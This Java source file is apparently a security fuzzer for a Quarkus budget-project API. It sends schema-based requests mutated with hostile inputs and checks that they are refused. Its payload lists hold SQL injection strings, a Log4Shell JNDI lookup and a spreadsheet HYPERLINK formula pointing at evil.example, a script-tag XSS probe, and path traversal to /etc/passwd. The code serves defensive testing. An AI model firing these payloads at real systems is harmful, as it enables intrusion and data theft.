package org.jixiao.deploy.security;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.ByteArrayOutputStream;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.UUID;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.concurrent.Semaphore;
import java.util.concurrent.atomic.AtomicLong;
import java.util.function.Function;

/**
 * Builds requests for every operation from its OpenAPI schema (path and query parameters, request body) and
 * mutates them with hostile input; sends them concurrently and counts what came back. Deterministic for a
 * seed: request n of a run with seed s is always the same request (tokens aside).
 *
 * <p>In the rejection phase every request carries at least one defect that must make the service refuse it
 * (a refused token or role, an unknown or malformed id, a NUL or unpaired surrogate, malformed or too deep
 * JSON, a wrong type at the root, a wrong content type, an impossible page): the phase must leave every table
 * of every database as it was.
 */
public final class RequestFuzzer {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    /** Marks a JSON string to be replaced by a raw token after serialisation (numbers JSON cannot hold, escapes). */
    private static final char RAW = '\uE000';
    private static final String IMPORT = "POST /api/v1/projects/import";
    /**
     * Request lines past 4 KiB are refused by the HTTP server before any of our code runs (414, no body; Quarkus'
     * quarkus.http.limits.max-initial-line-length): the fuzzer stays under it to reach the services.
     */
    private static final int MAX_REQUEST_LINE = 4000;

    /** One generated request, enough to send it again by hand. */
    public record Fuzzed(ApiOperation op, Principal who, String method, String uri, String contentType, byte[] body,
            Map<String, String> headers, String defect) {
        public String describe() {
            String b = body == null ? "" : new String(body, 0, Math.min(body.length, 240), StandardCharsets.UTF_8)
                    .replace("\n", " ");
            return who + " " + method + " " + (uri.length() > 240 ? uri.substring(0, 240) + "…" : uri)
                    + (contentType == null ? "" : " [" + contentType + "]") + (defect == null ? "" : " {" + defect + "}")
                    + (b.isEmpty() ? "" : " body(" + body.length + "B): " + b);
        }
    }

    /** What a run answered. */
    public static final class Tally {
        public final AtomicLong sent = new AtomicLong();
        public final AtomicLong status2xx = new AtomicLong();
        public final AtomicLong status4xx = new AtomicLong();
        public final AtomicLong status5xx = new AtomicLong();
        public final AtomicLong notProblem4xx = new AtomicLong();
        public final AtomicLong acceptedWrites = new AtomicLong();
        public final AtomicLong failedToSend = new AtomicLong();
        public final ConcurrentLinkedQueue<String> examples5xx = new ConcurrentLinkedQueue<>();
        public final ConcurrentLinkedQueue<String> examplesNotProblem = new ConcurrentLinkedQueue<>();
        public final ConcurrentLinkedQueue<String> examplesAccepted = new ConcurrentLinkedQueue<>();
        public final ConcurrentLinkedQueue<String> examplesFailed = new ConcurrentLinkedQueue<>();

        static void keep(ConcurrentLinkedQueue<String> q, String s) {
            if (q.size() < 25) {
                q.add(s);
            }
        }
    }

    private final List<ApiOperation> operations;
    private final AccessMatrix matrix;
    private final Function<String, String> baseUrl;
    private final Map<String, String> ids;
    private final Map<String, JsonNode> examples;
    private final java.util.Set<String> onlyRefused;

    /**
     * @param ids real objects by the path segment before their id ("projects", "cases", "library")
     * @param examples valid bodies by operation key, the starting point of most mutations
     */
    public RequestFuzzer(List<ApiOperation> operations, AccessMatrix matrix, Function<String, String> baseUrl,
            Map<String, String> ids, Map<String, JsonNode> examples) {
        this(operations, matrix, baseUrl, ids, examples, java.util.Set.of());
    }

    /** @param onlyRefused operations sent only with callers the table refuses (too costly to run thousands of times) */
    public RequestFuzzer(List<ApiOperation> operations, AccessMatrix matrix, Function<String, String> baseUrl,
            Map<String, String> ids, Map<String, JsonNode> examples, java.util.Set<String> onlyRefused) {
        this.operations = operations;
        this.matrix = matrix;
        this.baseUrl = baseUrl;
        this.ids = ids;
        this.examples = examples;
        this.onlyRefused = onlyRefused;
    }

    public int operationCount() {
        return operations.size();
    }

    /** Sends {@code count} requests, request i built from {@code new Random(seed + i)}. */
    public Tally run(HttpClient http, long seed, int count, boolean mustReject, int concurrency) throws InterruptedException {
        Tally tally = new Tally();
        Semaphore inFlight = new Semaphore(concurrency);
        List<ApiOperation> eligible = mustReject ? operations.stream().filter(o -> !o.isRead()).toList() : operations;
        for (int i = 0; i < count; i++) {
            Random r = new Random(seed * 1_000_003L + i);
            Fuzzed f = generate(r, eligible.get(r.nextInt(eligible.size())), mustReject);
            HttpRequest request;
            try {
                request = toRequest(f);
            } catch (IllegalArgumentException e) {
                Tally.keep(tally.examplesFailed, "not sendable: " + e.getMessage() + " " + f.describe());
                continue;
            }
            inFlight.acquire();
            tally.sent.incrementAndGet();
            http.sendAsync(request, EventStreams.closingStreams(HttpResponse.BodyHandlers.ofByteArray(), new byte[0])).whenComplete((response, error) -> {
                try {
                    if (error != null) {
                        tally.failedToSend.incrementAndGet();
                        Tally.keep(tally.examplesFailed, error + " " + f.describe());
                    } else {
                        record(tally, f, response, mustReject);
                    }
                } finally {
                    inFlight.release();
                }
            });
        }
        inFlight.acquire(concurrency);
        inFlight.release(concurrency);
        return tally;
    }

    private static void record(Tally tally, Fuzzed f, HttpResponse<byte[]> response, boolean mustReject) {
        int status = response.statusCode();
        String type = response.headers().firstValue("Content-Type").orElse("");
        String excerpt = new String(response.body(), 0, Math.min(300, response.body().length), StandardCharsets.UTF_8);
        if (status >= 500) {
            tally.status5xx.incrementAndGet();
            Tally.keep(tally.examples5xx, status + " " + excerpt + " <= " + f.describe());
        } else if (status >= 400) {
            tally.status4xx.incrementAndGet();
            if (!type.startsWith("application/problem+json")) {
                tally.notProblem4xx.incrementAndGet();
                Tally.keep(tally.examplesNotProblem, status + " [" + type + "] " + excerpt + " <= " + f.describe());
            }
        } else {
            tally.status2xx.incrementAndGet();
            if (mustReject) {
                tally.acceptedWrites.incrementAndGet();
                Tally.keep(tally.examplesAccepted, status + " " + excerpt + " <= " + f.describe());
            }
        }
    }

    static HttpRequest toRequest(Fuzzed f) {
        HttpRequest.Builder b = HttpRequest.newBuilder(URI.create(f.uri())).timeout(Duration.ofSeconds(60));
        if (f.who().token() != null) {
            b.header("Authorization", "Bearer " + f.who().token());
        }
        f.headers().forEach(b::header);
        if (f.contentType() != null) {
            b.header("Content-Type", f.contentType());
        }
        b.method(f.method(), f.body() == null ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofByteArray(f.body()));
        return b.build();
    }

    // ---------------------------------------------------------------- generation

    Fuzzed generate(Random r, ApiOperation op, boolean mustReject) {
        AccessMatrix.Row row = matrix.row(op.key());
        List<Principal> admitted = new ArrayList<>();
        List<Principal> refused = new ArrayList<>();
        for (Principal p : Principal.values()) {
            if (!p.unauthenticated()) {
                (row != null && AccessMatrix.admits(row.cell(p)) ? admitted : refused).add(p);
            }
        }
        Principal who = admitted.isEmpty() || r.nextInt(20) == 0
                ? Principal.values()[r.nextInt(Principal.values().length)]
                : admitted.get(r.nextInt(admitted.size()));

        // what must make this request fail, in the rejection phase
        List<String> defects = new ArrayList<>(List.of("token"));
        if (!refused.isEmpty()) {
            defects.add("role");
        }
        boolean hasUuid = op.parameters().stream().anyMatch(p -> p.in().equals("path") && "uuid".equals(p.schema().path("format").asText()));
        if (hasUuid) {
            defects.add("unknown-id");
            defects.add("malformed-id");
        }
        if (op.hasBody() && op.key().equals(IMPORT)) {
            // a batch answers per document (a refused document is an outcome, not a 4xx), and a stream imports
            // the documents before a syntax error: only what refuses the whole request
            defects.addAll(List.of("root-type", "content-type"));
        } else if (op.hasBody() && op.bodyMediaType().contains("json")) {
            defects.addAll(List.of("nul", "surrogate", "malformed-json", "deep-json", "root-type", "content-type"));
        }
        String defect = mustReject ? defects.get(r.nextInt(defects.size())) : null;
        if (onlyRefused.contains(op.key()) && defect == null) {
            defect = refused.isEmpty() || r.nextBoolean() ? "token" : "role";
        }
        if ("token".equals(defect)) {
            who = Principal.values()[r.nextInt(Principal.UNKNOWN_KEY.ordinal() + 1)];
        } else if ("role".equals(defect)) {
            // another department is refused only the owner's objects, which the rejection phase does not name
            List<Principal> byRole = refused.stream().filter(p -> !"H".equals(row.cell(p))).toList();
            who = byRole.isEmpty() ? Principal.NO_TOKEN : byRole.get(r.nextInt(byRole.size()));
        }

        StringBuilder uri = new StringBuilder(baseUrl.apply(op.service()));
        String path = op.path();
        for (ApiOperation.Parameter p : op.parameters()) {
            if (p.in().equals("path")) {
                String value = pathValue(r, op, p, defect);
                path = path.replace("{" + p.name() + "}", value);
            }
        }
        uri.append(path);
        char sep = '?';
        for (ApiOperation.Parameter p : op.parameters()) {
            if (p.in().equals("query") && (p.required() || r.nextInt(3) > 0)) {
                uri.append(sep).append(encode(p.name())).append('=').append(queryValue(r, op, p));
                sep = '&';
            }
        }
        if (r.nextInt(15) == 0) {
            uri.append(sep).append(encode(pick(r, List.of("unknown", "page", "size", "format", "\u0000", "a[]"))))
                    .append('=').append(encode(hostileString(r, false)));
        }

        while (uri.length() > MAX_REQUEST_LINE && uri.lastIndexOf("&") > 0) {
            uri.setLength(uri.lastIndexOf("&"));
        }
        if (uri.length() > MAX_REQUEST_LINE) {
            int end = uri.indexOf("?") > 0 ? uri.indexOf("?") : MAX_REQUEST_LINE;
            int escape = uri.lastIndexOf("%", end - 1);
            if (uri.indexOf("?") < 0 && escape >= end - 2) {
                end = escape; // never cut a percent escape in two
            }
            uri.setLength(end);
        }
        Map<String, String> headers = new java.util.LinkedHashMap<>();
        for (ApiOperation.Parameter p : op.parameters()) {
            if (p.in().equals("header") && r.nextBoolean()) {
                headers.put(p.name(), pick(r, List.of("\"1\"", "W/\"2\"", "*", "\"999999999999999999999\"", "abc", "\"-1\"", "k-" + r.nextInt(1000),
                        "' OR 1=1 --", "x".repeat(200))));
            }
        }
        if (op.path().startsWith("/api/v1/projects/{id}") && !op.isRead() && r.nextBoolean()) {
            headers.put("If-Match", pick(r, List.of("\"1\"", "\"2\"", "W/\"1\"", "\"0\"", "\"9223372036854775807\"", "\"x\"")));
        }
        if (r.nextInt(10) == 0) {
            headers.put("Accept", pick(r, List.of("application/xml", "text/csv", "application/pdf", "*/*", "text/html", "image/png",
                    "application/json;q=0", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")));
        }

        String contentType = null;
        byte[] body = null;
        if (op.hasBody()) {
            contentType = op.bodyMediaType().equals("application/merge-patch+json") ? "application/merge-patch+json; charset=UTF-8"
                    : op.bodyMediaType();
            body = body(r, op, defect);
            if ("content-type".equals(defect)) {
                contentType = pick(r, List.of("text/plain", "application/xml", "multipart/form-data; boundary=x",
                        "application/x-www-form-urlencoded", "image/png"));
            } else if (!mustReject && r.nextInt(20) == 0) {
                contentType = pick(r, List.of("text/plain", "application/xml", "application/json; charset=ISO-8859-1",
                        "application/x-ndjson", "application/merge-patch+json", "multipart/form-data", "", "application/json;;;"));
                if (contentType.isEmpty()) {
                    contentType = null;
                }
            }
        } else if (!mustReject && !op.isRead() && r.nextInt(10) == 0) {
            contentType = "application/json";
            body = "{\"unexpected\":true}".getBytes(StandardCharsets.UTF_8);
        }
        return new Fuzzed(op, who, op.method(), uri.toString(), contentType, body, headers, defect);
    }

    private String pathValue(Random r, ApiOperation op, ApiOperation.Parameter p, String defect) {
        JsonNode s = op.resolve(p.schema());
        if ("uuid".equals(s.path("format").asText())) {
            if ("unknown-id".equals(defect)) {
                return UUID.nameUUIDFromBytes(Long.toString(r.nextLong()).getBytes(StandardCharsets.UTF_8)).toString();
            }
            if ("malformed-id".equals(defect) || defect == null && r.nextInt(5) == 0) {
                return encodePath(pick(r, List.of("not-a-uuid", "00000000-0000-0000-0000-00000000000g", "123", "%00", "..",
                        "' or '1'='1", "00000000-0000-0000-0000-000000000000-0", "\u0000", "\uD800", "x".repeat(3000),
                        "{id}", "-1", "1e999999", "\u202Eabc", "ｆｕｌｌ")));
            }
            String segment = segmentBefore(op.path(), p.name());
            if (defect == null && ids.containsKey(segment) && r.nextInt(3) > 0) {
                return ids.get(segment);
            }
            return UUID.nameUUIDFromBytes(Long.toString(r.nextLong()).getBytes(StandardCharsets.UTF_8)).toString();
        }
        if (s.path("type").asText().equals("integer")) {
            if (defect == null && r.nextInt(4) == 0) {
                return encodePath(pick(r, List.of("-1", "0", "2147483648", "9223372036854775808", "1e999999", "1.5", "abc", "%00",
                        "99999999999999999999", "-2147483649", "０")));
            }
            return p.name().equals("budgetYear") ? pick(r, List.of("2025", "2024", "2026", "2000", "2100")) : Integer.toString(1 + r.nextInt(3));
        }
        return boundedSegment(defect == null && r.nextBoolean() ? hostileString(r, false) : "x" + r.nextInt(100));
    }

    /**
     * A text path segment short enough, once percent-encoded (up to nine characters per code point), that the
     * request line stays under the server's limit and the request reaches our code.
     */
    private static String boundedSegment(String raw) {
        String encoded = encodePath(raw);
        while (encoded.length() > MAX_REQUEST_LINE / 4) {
            int cut = raw.offsetByCodePoints(0, raw.codePointCount(0, raw.length()) / 2);
            raw = raw.substring(0, cut);
            encoded = encodePath(raw);
        }
        return encoded;
    }

    private static String segmentBefore(String path, String param) {
        String[] parts = path.split("/");
        for (int i = 1; i < parts.length; i++) {
            if (parts[i].equals("{" + param + "}")) {
                return parts[i - 1];
            }
        }
        return "";
    }

    private String queryValue(Random r, ApiOperation op, ApiOperation.Parameter p) {
        JsonNode s = op.resolve(p.schema());
        String name = p.name();
        if (r.nextInt(4) == 0) {
            return encode(switch (r.nextInt(4)) {
                case 0 -> hostileNumberText(r);
                case 1 -> hostileString(r, false);
                case 2 -> pick(r, List.of("", "true", "null", "[]", "NOPE", "approved", "APPROVED,RETURNED"));
                default -> pick(r, List.of("2147483647", "4294968", "-1", "0", "500", "501", "99999999999"));
            });
        }
        if (name.equals("page")) {
            return pick(r, List.of("0", "1", "2", "2147483647", "4294968", "-1", "100000"));
        }
        if (name.equals("size")) {
            return pick(r, List.of("1", "20", "500", "501", "0", "2147483647", "-5"));
        }
        if (name.equals("budgetYear")) {
            return pick(r, List.of("2025", "2024", "1999", "2101", "0"));
        }
        if (name.equals("projectId") || name.equals("caseId")) {
            return r.nextBoolean() && ids.containsKey("projects") ? ids.get("projects") : UUID.randomUUID().toString();
        }
        if (name.equals("department") || name.equals("departmentCode")) {
            return pick(r, List.of(Principal.OWN, Principal.OTHER, "000", "", "034'--"));
        }
        if (name.equals("fundingMin") || name.equals("fundingMax")) {
            return encode(pick(r, List.of("0", "100000", "1e999999", "-1", "NaN", "Infinity", "1e-999999", "0.001", "99999999999999999999.99")));
        }
        if (name.equals("format")) {
            return pick(r, List.of("json", "html", "pdf", "xlsx", "csv", "xml", "PDF", ""));
        }
        if (name.equals("sort")) {
            return encode(pick(r, List.of("name", "-name", "budgetYear", "-funding", "status", "createdAt", "-updatedAt", "unknown",
                    "name;drop table project", "--name", "-", "")));
        }
        JsonNode value = value(r, op, s, name, 0);
        return encode(value.isTextual() ? value.asText() : value.toString());
    }

    private byte[] body(Random r, ApiOperation op, String defect) {
        JsonNode example = examples.get(op.key());
        JsonNode tree = example != null && r.nextInt(4) > 0 ? example.deepCopy() : value(r, op, op.resolve(op.bodySchema()), "", 0);
        if (defect == null || defect.equals("token") || defect.equals("role") || defect.endsWith("-id") || defect.equals("content-type")) {
            int mutations = defect == null ? r.nextInt(4) : r.nextInt(2);
            for (int i = 0; i < mutations; i++) {
                tree = mutate(r, op, tree);
            }
        }
        if (("nul".equals(defect) || "surrogate".equals(defect)) && !spoilText(r, tree, defect)) {
            defect = "malformed-json"; // nothing textual to spoil
        }
        if ("root-type".equals(defect)) {
            tree = tree.isArray() ? NODES.textNode("x") : pick(r, List.of(NODES.arrayNode(), NODES.numberNode(1), NODES.textNode("x"), NODES.booleanNode(true)));
        }
        String text = serialise(tree);
        if ("malformed-json".equals(defect)) {
            text = pick(r, List.of(text.substring(0, text.length() / 2), "{" + text, "{'a':1}", "{\"a\":}", "{\"a\":1,}", "[1,2",
                    "\"unterminated", "{\"a\":NaN}", "{\"a\":01}", "[{\"a\":01}]"));
        } else if (defect == null && r.nextInt(25) == 0) {
            // also what a lenient parser might take: trailing tokens, a byte order mark, nothing at all
            text = pick(r, List.of(text.substring(0, text.length() / 2), text + "}", "{" + text, text + " trailing", "{'a':1}",
                    "{\"a\":}", "{\"a\":1,}", "[1,2", "\"unterminated", "{\"a\":NaN}", "{\"a\":01}", "\uFEFF" + text, "", "null"));
        }
        if ("deep-json".equals(defect) || defect == null && r.nextInt(50) == 0) {
            int depth = pick(r, List.of(1_500, 10_000, 100_000));
            text = r.nextBoolean() ? "[".repeat(depth) + "]".repeat(depth)
                    : "{\"a\":".repeat(depth) + "1" + "}".repeat(depth);
        }
        byte[] bytes = text.getBytes(StandardCharsets.UTF_8);
        if (defect == null && r.nextInt(40) == 0) {
            // bytes no UTF-8 decoder accepts, in the middle of a string
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            int at = Math.max(0, text.indexOf('"', 2) + 1);
            out.write(bytes, 0, Math.min(at, bytes.length));
            byte[] bad = pick(r, List.of(new byte[] {(byte) 0xC3, 0x28}, new byte[] {(byte) 0xFF}, new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
                    new byte[] {(byte) 0xC0, (byte) 0xAF}));
            out.write(bad, 0, bad.length);
            out.write(bytes, Math.min(at, bytes.length), bytes.length - Math.min(at, bytes.length));
            bytes = out.toByteArray();
        }
        return bytes;
    }

    /** A value for the schema: mostly valid, so that requests get past the first checks. */
    JsonNode value(Random r, ApiOperation op, JsonNode schema, String name, int depth) {
        schema = op.resolve(schema);
        if (schema == null || schema.isMissingNode()) {
            return NODES.textNode("x");
        }
        for (String combinator : List.of("allOf", "oneOf", "anyOf")) {
            if (schema.has(combinator) && schema.get(combinator).size() > 0) {
                return value(r, op, schema.get(combinator).get(0), name, depth);
            }
        }
        if (schema.has("enum") && schema.get("enum").size() > 0) {
            return schema.get("enum").get(r.nextInt(schema.get("enum").size())).deepCopy();
        }
        String type = schema.path("type").asText(schema.has("properties") ? "object" : "string");
        switch (type) {
            case "object" -> {
                ObjectNode o = NODES.objectNode();
                if (depth > 6) {
                    return o;
                }
                java.util.Set<String> required = new java.util.HashSet<>();
                schema.path("required").forEach(n -> required.add(n.asText()));
                for (Iterator<Map.Entry<String, JsonNode>> it = schema.path("properties").fields(); it.hasNext();) {
                    Map.Entry<String, JsonNode> e = it.next();
                    if (required.contains(e.getKey()) || r.nextInt(10) < 7) {
                        o.set(e.getKey(), value(r, op, e.getValue(), e.getKey(), depth + 1));
                    }
                }
                return o;
            }
            case "array" -> {
                ArrayNode a = NODES.arrayNode();
                int n = depth > 6 ? 0 : r.nextInt(4);
                for (int i = 0; i < n; i++) {
                    a.add(value(r, op, schema.path("items"), name, depth + 1));
                }
                return a;
            }
            case "integer" -> {
                if (name.equals("budgetYear")) {
                    return NODES.numberNode(2025);
                }
                long min = schema.path("minimum").asLong(0);
                return NODES.numberNode(min + r.nextInt(5));
            }
            case "number" -> {
                return NODES.numberNode(new java.math.BigDecimal(r.nextInt(100000) + "." + r.nextInt(100)));
            }
            case "boolean" -> {
                return NODES.booleanNode(r.nextBoolean());
            }
            default -> {
                String format = schema.path("format").asText();
                if (format.equals("uuid")) {
                    return NODES.textNode(r.nextBoolean() && ids.containsKey("projects") ? ids.get("projects") : UUID.randomUUID().toString());
                }
                if (format.equals("date-time")) {
                    return NODES.textNode("2025-03-01T10:00:00Z");
                }
                if (format.equals("date")) {
                    return NODES.textNode("2025-03-01");
                }
                if (name.equals("departmentCode") || name.equals("department")) {
                    return NODES.textNode(pick(r, List.of(Principal.OWN, Principal.OTHER)));
                }
                if (name.equals("funding") || name.equals("amount")) {
                    return NODES.textNode(pick(r, List.of("100000", "4515600", "0.01", "12.345")));
                }
                return NODES.textNode(pick(r, List.of("学生人数", "≥100人", "满意度≥90%", "城区学前教育公用经费", "产出指标", "数量指标", "效益指标",
                        "计划标准", "绩效目标", "name " + r.nextInt(1000))));
            }
        }
    }

    /** Replaces one value somewhere in the tree (or the tree) with something hostile. */
    JsonNode mutate(Random r, ApiOperation op, JsonNode tree) {
        JsonNode hostile = switch (r.nextInt(9)) {
            case 0, 1 -> NODES.textNode(hostileString(r, true));
            case 2 -> raw(hostileNumberText(r));
            case 3 -> pick(r, List.of(NODES.nullNode(), NODES.booleanNode(true), NODES.arrayNode(), NODES.objectNode(),
                    NODES.numberNode(1), NODES.textNode("1")));
            case 4 -> NODES.textNode(pick(r, List.of("NOPE", "pass", "", "APPROVE ", "RETURN\u0000", "优秀", "DELETE", "null")));
            case 5 -> {
                if (tree.isObject()) {
                    ((ObjectNode) tree).put(pick(r, List.of("unknownField", "__proto__", "$where", "id", "status", "departmentCode",
                            "revision", "createdBy", "@class")), hostileString(r, true));
                }
                yield null;
            }
            case 6 -> {
                ArrayNode many = NODES.arrayNode();
                int n = pick(r, List.of(201, 1000, 5000));
                for (int i = 0; i < n; i++) {
                    many.add(NODES.objectNode().put("name", "指标" + i).put("level1", "产出指标").put("level2", "数量指标").put("target", "≥1"));
                }
                yield many;
            }
            case 7 -> {
                JsonNode nested = NODES.textNode("x");
                for (int i = 0; i < pick(r, List.of(50, 500, 2000)); i++) {
                    nested = r.nextBoolean() ? NODES.arrayNode().add(nested) : NODES.objectNode().set("a", nested);
                }
                yield nested;
            }
            default -> raw(pick(r, List.of("\"\\u0000\"", "\"\\ud800\"", "\"a\\u202eb\"", "\"\\u200b\\u200d\\ufeff\"")));
        };
        return hostile == null ? tree : plant(r, tree, hostile);
    }

    /**
     * Puts a NUL or an unpaired surrogate into one of the document's own strings: the services refuse them in every
     * string they read as text (a field they ignore, or a number written as a string, is not text they keep).
     */
    static boolean spoilText(Random r, JsonNode tree, String defect) {
        List<JsonNode> parents = new ArrayList<>();
        collect(tree, parents);
        List<Object[]> texts = new ArrayList<>();
        for (JsonNode parent : parents) {
            if (parent instanceof ObjectNode o) {
                o.fields().forEachRemaining(e -> {
                    if (e.getValue().isTextual()) {
                        texts.add(new Object[] {o, e.getKey()});
                    }
                });
            } else if (parent instanceof ArrayNode a) {
                for (int i = 0; i < a.size(); i++) {
                    if (a.get(i).isTextual()) {
                        texts.add(new Object[] {a, i});
                    }
                }
            }
        }
        if (texts.isEmpty()) {
            return false;
        }
        Object[] at = texts.get(r.nextInt(texts.size()));
        JsonNode current = at[0] instanceof ObjectNode o ? o.get((String) at[1]) : ((ArrayNode) at[0]).get((Integer) at[1]);
        String text = current.asText();
        JsonNode spoiled;
        if (defect.equals("nul")) {
            spoiled = NODES.textNode(pick(r, List.of(text + "\u0000", "\u0000" + text, text.isEmpty() ? "\u0000" : text.charAt(0) + "\u0000" + text.substring(1))));
        } else {
            String quoted;
            try {
                quoted = JSON.writeValueAsString(text);
            } catch (com.fasterxml.jackson.core.JsonProcessingException e) {
                throw new IllegalStateException(e);
            }
            String lone = pick(r, List.of("\\ud800", "\\udc00", "\\ud83d", "\\udfff"));
            spoiled = raw(r.nextBoolean() ? quoted.substring(0, quoted.length() - 1) + lone + "\"" : "\"" + lone + quoted.substring(1));
        }
        if (at[0] instanceof ObjectNode o) {
            o.set((String) at[1], spoiled);
        } else {
            ((ArrayNode) at[0]).set((Integer) at[1], spoiled);
        }
        return true;
    }

    /** Puts the value at a random place of the tree: a field of an object, an element of an array, or the root. */
    static JsonNode plant(Random r, JsonNode tree, JsonNode value) {
        List<JsonNode> containers = new ArrayList<>();
        collect(tree, containers);
        if (containers.isEmpty()) {
            return value;
        }
        JsonNode target = containers.get(r.nextInt(containers.size()));
        if (target instanceof ObjectNode o) {
            List<String> names = new ArrayList<>();
            o.fieldNames().forEachRemaining(names::add);
            o.set(names.isEmpty() || r.nextInt(8) == 0 ? "extra" + r.nextInt(10) : names.get(r.nextInt(names.size())), value);
        } else if (target instanceof ArrayNode a) {
            if (a.isEmpty()) {
                a.add(value);
            } else {
                a.set(r.nextInt(a.size()), value);
            }
        }
        return tree;
    }

    private static void collect(JsonNode node, List<JsonNode> containers) {
        if (node.isContainerNode()) {
            containers.add(node);
            node.forEach(child -> collect(child, containers));
        }
    }

    static String hostileString(Random r, boolean allowHuge) {
        int n = r.nextInt(allowHuge ? 24 : 22);
        return switch (n) {
            case 0 -> "测试\u0000项目";
            case 1 -> "\uD800";
            case 2 -> "x\uDC00y";
            case 3 -> "\u202E项目名称\u202C";
            case 4 -> "零\u200B宽\u200D字\uFEFF符";
            case 5 -> "' OR '1'='1";
            case 6 -> "'; drop table project; --";
            case 7 -> "=HYPERLINK(\"http://evil.example\",\"x\")";
            case 8 -> "\t=1+1";
            case 9 -> "\r@SUM(A1)";
            case 10 -> "+1-1";
            case 11 -> "<script>alert(1)</script>";
            case 12 -> "${jndi:ldap://evil.example/a}";
            case 13 -> "../../../../etc/passwd";
            case 14 -> "%00%ff";
            case 15 -> "";
            case 16 -> "   ";
            case 17 -> "😀👨‍👩‍👧 e\u0301";
            case 18 -> "绩".repeat(1000);
            case 19 -> "a".repeat(2001);
            case 20 -> "\\u0000";
            case 21 -> "null";
            case 22 -> "绩".repeat(350_000);
            default -> "A".repeat(1 << 20);
        };
    }

    static String hostileNumberText(Random r) {
        return pick(r, List.of("1e999999", "-1e999999", "1e-999999", "-1", "0", "-0", "9223372036854775808", "9223372036854775807",
                "-9223372036854775809", "2147483648", "4294967296", "1.5", "0.000000000000000000001", "123456789012345678901234567890",
                "1e10", "1E+400", "0x10", "1_000"));
    }

    private static JsonNode raw(String token) {
        return NODES.textNode(RAW + token + RAW);
    }

    private static String serialise(JsonNode tree) {
        String text;
        try {
            text = JSON.writeValueAsString(tree);
        } catch (com.fasterxml.jackson.core.JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
        // "\uE000token\uE000" (quoted by Jackson) becomes the bare token: numbers past any range, escapes Java strings cannot carry
        StringBuilder out = new StringBuilder(text.length());
        int i = 0;
        while (i < text.length()) {
            int start = text.indexOf("\"" + RAW, i);
            if (start < 0) {
                out.append(text, i, text.length());
                break;
            }
            int end = text.indexOf(RAW + "\"", start + 2);
            out.append(text, i, start).append(text, start + 2, end);
            i = end + 2;
        }
        return out.toString();
    }

    /** Percent-encodes every code unit, unpaired surrogates as the three bytes a lenient encoder would write. */
    static String encode(String s) {
        StringBuilder out = new StringBuilder();
        for (int i = 0; i < s.length(); i++) {
            char c = s.charAt(i);
            if (c < 0x80 && (Character.isLetterOrDigit(c) || c == '-' || c == '_' || c == '.' || c == '~')) {
                out.append(c);
                continue;
            }
            byte[] bytes;
            if (Character.isHighSurrogate(c) && i + 1 < s.length() && Character.isLowSurrogate(s.charAt(i + 1))) {
                bytes = s.substring(i, i + 2).getBytes(StandardCharsets.UTF_8);
                i++;
            } else if (Character.isSurrogate(c)) {
                bytes = new byte[] {(byte) (0xE0 | (c >> 12)), (byte) (0x80 | ((c >> 6) & 0x3F)), (byte) (0x80 | (c & 0x3F))};
            } else {
                bytes = String.valueOf(c).getBytes(StandardCharsets.UTF_8);
            }
            for (byte b : bytes) {
                out.append('%').append(String.format("%02X", b & 0xFF));
            }
        }
        return out.toString();
    }

    private static String encodePath(String s) {
        return s.equals("%00") ? "%2500" : encode(s);
    }

    static <T> T pick(Random r, List<T> options) {
        return options.get(r.nextInt(options.size()));
    }
}
